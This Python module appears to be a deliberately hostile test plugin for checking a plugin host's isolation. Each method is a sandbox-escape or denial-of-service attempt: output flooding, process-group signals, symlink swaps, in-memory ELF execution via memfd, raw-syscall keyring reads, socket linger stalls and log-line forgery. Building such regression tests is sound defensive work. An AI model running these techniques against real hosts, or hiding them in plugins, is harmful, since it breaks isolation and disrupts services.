"""A plugin with the attacks that once worked: each method is one, and says how far it came."""

from __future__ import annotations

import os
import signal
import struct
import sys
import threading
import time

SETTLE = 0.5
"""Seconds of output without end that make a host's event loop stand still, if anything does."""

# A program of 132 bytes: exit(42).
_CODE = b"\xb8\x3c\x00\x00\x00\xbf\x2a\x00\x00\x00\x0f\x05"
_HEADER = struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
_SEGMENT = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 120 + len(_CODE), 120 + len(_CODE), 0x1000)
PROGRAM = b"\x7fELF\x02\x01\x01".ljust(16, b"\0") + _HEADER + _SEGMENT + _CODE


class Finder:
    """Every method is an attack."""

    def hang_up_and_stay(self) -> None:
        os.close(_control_fd())
        while True:
            signal.pause()

    def flood(self) -> None:
        """Write without end to both streams, faster than anybody reads."""
        data, end = b"x\n" * 32_768, time.monotonic() + SETTLE
        threading.Thread(target=_write_until, args=(2, data, end)).start()
        _write_until(1, data, end)

    def signal_group(self, number: int) -> None:
        """Signal the process group, which may reach beyond the pid namespace."""
        os.kill(0, number)

    def set_same_mode(self, path: str) -> None:
        """Set the mode of a file to what it is."""
        os.chmod(path, os.stat(path).st_mode & 0o7777)

    def write_without_truncation(self, path: str) -> int:
        fd = os.open(path, os.O_WRONLY)
        try:
            return os.write(fd, b"x")
        finally:
            os.close(fd)

    def write(self, path: str) -> None:
        with open(path, "w", encoding="ascii") as file:
            file.write("written by the plugin")

    def read(self, path: str) -> str:
        with open(path, encoding="utf-8") as file:
            return file.read()

    def replace_by_link(self, path: str, target: str) -> None:
        os.rmdir(path)
        os.symlink(target, path)

    def execute_own_program(self) -> int:
        """Write a program into memory and execute it by the name that /proc gives it; return its exit code."""
        fd = os.memfd_create("program", 0)
        os.write(fd, PROGRAM)
        pid = os.fork()
        if pid == 0:
            try:
                os.execv(f"/proc/self/fd/{fd}", ["program"])
            finally:
                os._exit(1)
        return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])

    def key_of_host(self, key: int) -> str:
        """Read a key by its serial number."""
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(64)
        if libc.syscall(250, 11, ctypes.c_long(key), buffer, ctypes.c_long(64)) < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return buffer.value.decode()

    def linger(self, family: int, option: int) -> None:
        """Make a socket that holds up whoever closes it last."""
        import socket

        with socket.socket(family) as sock:
            sock.setsockopt(socket.SOL_SOCKET, option, struct.pack("ii", 1, 3600))

    def forge_log_line(self) -> None:
        """Have the host log the name of a module that could not be imported."""
        name = "module\nCRITICAL forged\x1b[2J"
        try:
            __import__(name)
        except ImportError:
            return


def _write_until(fd: int, data: bytes, end: float) -> None:
    while time.monotonic() < end:
        os.write(fd, data)


def _control_fd() -> int:
    frame = sys._getframe()
    while frame is not None:
        link = getattr(frame.f_locals.get("self"), "link", None)
        if link is not None:
            return int(link.sock.fileno())
        assert frame.f_back is not None
        frame = frame.f_back
    raise LookupError("no channel")
